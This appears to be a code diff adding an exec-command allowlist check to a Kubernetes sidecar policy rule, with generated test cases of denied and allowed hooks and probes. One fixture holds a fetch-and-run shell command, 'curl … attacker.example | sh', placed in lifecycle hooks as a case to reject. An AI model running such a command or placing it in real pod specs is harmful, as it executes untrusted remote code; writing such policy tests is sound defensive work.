@@ -8,7 +8,8 @@ from ..registry import POD, SIDECAR_CATEGORY, Rule, RuleInfo, per_sidecar
 
 
 def _sidecar(sidecar):
-    if sidecar.args is None and sidecar.command_allowed is not False and sidecar.env is None:
+    if (sidecar.args is None and sidecar.command_allowed is not False and sidecar.env is None
+            and sidecar.exec_handlers is None):
         return None
     env = sidecar.env
     return {
@@ -21,6 +22,9 @@ def _sidecar(sidecar):
         # With a list of allowed names, every other name is denied; the pinned ones are allowed too.
         "envAllowlist": env is not None and env.allowed is not None,
         "allowedEnv": sorted(set(env.allowed or ()) | set(env.pinned)) if env else [],
+        # With execHandlers, every exec hook and probe must start with one of these commands.
+        "checkExec": sidecar.exec_handlers is not None,
+        "execPrefixes": [list(p) for p in sidecar.exec_handlers.allowed] if sidecar.exec_handlers else [],
     }
 
 
@@ -62,11 +66,50 @@ def cases(p, kit):
                 lambda pod: kit.sidecar(pod, name).setdefault("env", []).append({"name": near, "value": "1"}))
         kit.pod("envfrom_with_allowlist", "envfrom-forbidden",
                 lambda pod: kit.sidecar(pod, name).update(envFrom=[{"configMapRef": {"name": "settings"}}]))
+    if side["checkExec"]:
+        _exec_cases(side, kit)
     if side["forbiddenEnv"]:
         var = side["forbiddenEnv"][0]
         # A forbidden name is outside any allowlist too (the spec refuses one in both).
         kit.pod("forbidden_env", ("env-forbidden", "env-not-allowed") if side["envAllowlist"] else "env-forbidden",
                 lambda pod: kit.sidecar(pod, name).setdefault("env", []).append({"name": var, "value": "/tmp/x.so"}))
+
+
+
+def _exec_cases(side, kit):
+    name = side["name"]
+    shell = {"exec": {"command": ["/bin/sh", "-c", "curl -s attacker.example | sh"]}}
+
+    def hook(where, handler):
+        def mutate(pod):
+            container = kit.sidecar(pod, name)
+            if where in ("postStart", "preStop"):
+                container.setdefault("lifecycle", {})[where] = handler
+            else:
+                container[where] = handler
+        return mutate
+
+    for where in ("postStart", "preStop", "livenessProbe", "readinessProbe", "startupProbe"):
+        kit.pod(f"exec_{where}_shell", "exec-not-approved", hook(where, shell))
+    # Near misses of an approved command, each denied: cut short, a path to the same name, a shifted prefix.
+    if side["execPrefixes"]:
+        first = side["execPrefixes"][0]
+        kit.pod("exec_approved", False, hook("preStop", {"exec": {"command": [*first, "--extra"]}}))
+        if len(first) > 1:
+            kit.pod("exec_prefix_cut", "exec-not-approved", hook("preStop", {"exec": {"command": first[:-1]}}))
+        kit.pod("exec_prefix_shifted", "exec-not-approved", hook("preStop", {"exec": {"command": ["env", *first]}}))
+        kit.pod("exec_prefix_path", "exec-not-approved", hook("preStop", {"exec": {"command": [f"/tmp/{first[0]}", *first[1:]]}}))
+    # Fail closed: a hook or lifecycle that is no mapping, a command that is no list of strings.
+    kit.pod("exec_lifecycle_not_a_mapping", "exec-not-approved",
+            lambda pod: kit.sidecar(pod, name).update(lifecycle=["sh", "-c", "id"]))
+    kit.pod("exec_hook_not_a_mapping", "exec-not-approved", hook("postStart", "sh -c id"))
+    kit.pod("exec_command_a_string", "exec-not-approved", hook("readinessProbe", {"exec": {"command": "sh -c id"}}))
+    kit.pod("exec_not_a_mapping", "exec-not-approved", hook("livenessProbe", {"exec": ["sh", "-c", "id"]}))
+    # What runs no program in the sidecar passes: an HTTP probe, a sleep hook, a null exec.
+    kit.pod("http_probe", False, hook("readinessProbe", {"httpGet": {"path": "/healthz/ready", "port": 15021}}))
+    kit.pod("sleep_hook", False, hook("preStop", {"sleep": {"seconds": 5}}))
+    kit.pod("exec_null", False, hook("startupProbe", {"exec": None, "tcpSocket": {"port": 15021}}))
+    kit.pod("exec_shell_outside_mesh", False, hook("postStart", shell), outside=True)
 
 
 RULE = Rule(
@@ -82,6 +125,7 @@ RULE = Rule(
         "env-not-allowed": "an env variable outside the allowed names is set",
         "envfrom-forbidden": "envFrom can set forbidden or unlisted variables",
         "env-malformed": "env or args is not of the shape Kubernetes reads",
+        "exec-not-approved": "a lifecycle hook or exec probe runs a command that starts with no approved prefix",
     },
     plan=plan,
     cases=cases,
